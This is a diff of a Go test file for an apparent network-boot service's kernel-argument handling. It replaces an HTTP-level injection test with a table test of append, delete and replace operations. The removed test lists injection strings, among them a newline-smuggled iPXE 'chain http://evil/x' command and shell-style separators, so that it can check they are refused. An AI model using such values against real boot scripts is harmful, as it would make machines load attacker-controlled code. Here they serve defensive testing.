@@ -1,51 +1,30 @@
-package bootsel_test
+package bootsel
 
 import (
-	"errors"
-	"net/http"
-	"strings"
 	"testing"
 
-	"github.com/rackboot/rackboot/boot/kargs"
 	"github.com/rackboot/rackboot/engine"
 )
 
-// An infra-env's kernel arguments reach the iPXE script's kernel line, in
-// order: append at the end, replace in place, delete. Changing them
-// changes the next script.
-func TestKernelArgumentsInIPXEScript(t *testing.T) {
-	e := newEnv(t, nil)
-	srv := serve(t, e)
-	ka := []kargs.Arg{{Operation: kargs.Append, Value: "rd.net.timeout.carrier=60"},
-		{Operation: kargs.Replace, Value: "console=tty0"}, {Operation: kargs.Delete, Value: "ignition.platform.id"},
-		{Operation: kargs.Append, Value: "ignition.platform.id=metal"}, {Operation: kargs.Append, Value: "nomodeset"}}
-	e.apply(t, &engine.UpdateInfraEnv{ID: ieB, Patch: engine.InfraEnvPatch{KernelArguments: &ka}})
-	code, script := get(t, srv, "/boot/"+hexhyp(hostMAC)+"/script.ipxe")
-	if code != http.StatusOK {
-		t.Fatalf("script: %d %s", code, script)
-	}
-	golden(t, "kernel-arguments.ipxe", script)
-
-	none := []kargs.Arg{}
-	e.apply(t, &engine.UpdateInfraEnv{ID: ieB, Patch: engine.InfraEnvPatch{KernelArguments: &none}})
-	_, script = get(t, srv, "/boot/"+hexhyp(hostMAC)+"/script.ipxe")
-	golden(t, "registered-host.ipxe", script)
-}
-
-// Kernel arguments that could inject into the script are refused by the
-// domain, whichever door they come through, and change nothing.
-func TestKernelArgumentsInjectionRefused(t *testing.T) {
-	e := newEnv(t, nil)
-	srv := serve(t, e)
-	for _, v := range []string{"a b", "a\nchain http://evil/x", "${net0/mac}", `p="x y"`, "a||shell", "a;b", "x\rboot"} {
-		ka := []kargs.Arg{{Operation: kargs.Append, Value: v}}
-		if _, err := e.st.Apply(t.Context(), &engine.UpdateInfraEnv{ID: ieB, Patch: engine.InfraEnvPatch{KernelArguments: &ka}}); !errors.Is(err, engine.ErrInvalid) {
-			t.Errorf("kernel argument %q: %v, want ErrInvalid", v, err)
+func TestApplyKernelArgs(t *testing.T) {
+	base := "coreos.live.rootfs_url=http://a/r ignition.firstboot console=tty0 console=ttyS0 quiet"
+	for _, tc := range []struct {
+		changes []engine.KernelArgument
+		want    string
+	}{
+		{nil, base},
+		{[]engine.KernelArgument{{Operation: "append", Value: "rd.luks.options=discard"}},
+			base + " rd.luks.options=discard"},
+		{[]engine.KernelArgument{{Operation: "delete", Value: "quiet"}, {Operation: "delete", Value: "console=tty0"}},
+			"coreos.live.rootfs_url=http://a/r ignition.firstboot console=ttyS0"},
+		{[]engine.KernelArgument{{Operation: "delete", Value: "console"}},
+			"coreos.live.rootfs_url=http://a/r ignition.firstboot quiet"},
+		{[]engine.KernelArgument{{Operation: "replace", Value: "console=ttyS1,115200n8"}},
+			"coreos.live.rootfs_url=http://a/r ignition.firstboot console=ttyS1,115200n8 quiet"},
+		{[]engine.KernelArgument{{Operation: "replace", Value: "nomodeset"}}, base + " nomodeset"},
+	} {
+		if got := applyKernelArgs(base, tc.changes); got != tc.want {
+			t.Errorf("%+v:\n got %s\nwant %s", tc.changes, got, tc.want)
 		}
 	}
-	_, script := get(t, srv, "/boot/"+hexhyp(hostMAC)+"/script.ipxe")
-	if strings.Contains(string(script), "evil") || strings.Contains(string(script), "shell") {
-		t.Errorf("script:\n%s", script)
-	}
-	golden(t, "registered-host.ipxe", script)
 }
